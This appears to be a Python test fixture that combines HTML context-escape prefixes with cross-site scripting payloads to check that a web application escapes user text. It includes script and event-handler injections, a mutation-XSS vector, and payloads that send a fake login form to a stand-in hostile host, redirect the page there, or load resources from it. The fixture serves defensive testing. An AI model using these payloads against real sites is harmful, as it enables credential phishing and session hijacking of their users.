"""Three hundred texts that would act in the browser of who reads them, if a page did not escape them.

Each way out of where the text stands, with each thing that would then run; and those that parsers once read
in two ways. A script that ran would set `window.ran`.
"""

from tests.spec.attacks import EVIL, RAW, RUN

WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    '" ',
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "--!>",
    "]]>",
    "</td></tr></table>",
    "</a></p></div></main>",
    "\u0000",
    "\u202e",
    "{{7*7}}{%x%}",
)
THINGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<base href=//{EVIL}/>",
    f"<style>@import '//{EVIL}/a.css';</style>",
    f"<form action=//{EVIL}/><button>Log in</button>",
    f"<b hx-get=//{EVIL}/ hx-trigger=load data-hx-on--load={RUN}>x</b>",
    f"autofocus onfocus={RUN} x=",
    f"<video><source onerror={RUN}>",
    f"<dialog open>Approved</dialog><meta http-equiv=refresh content=0;url=//{EVIL}/>",
)
# PostgreSQL holds no NUL, so no text has one.
ALL = tuple(
    dict.fromkeys(
        text.replace("\u0000", "\ufffd")
        for text in (*RAW, *(way + thing for way in WAYS_OUT for thing in THINGS))
    )
)
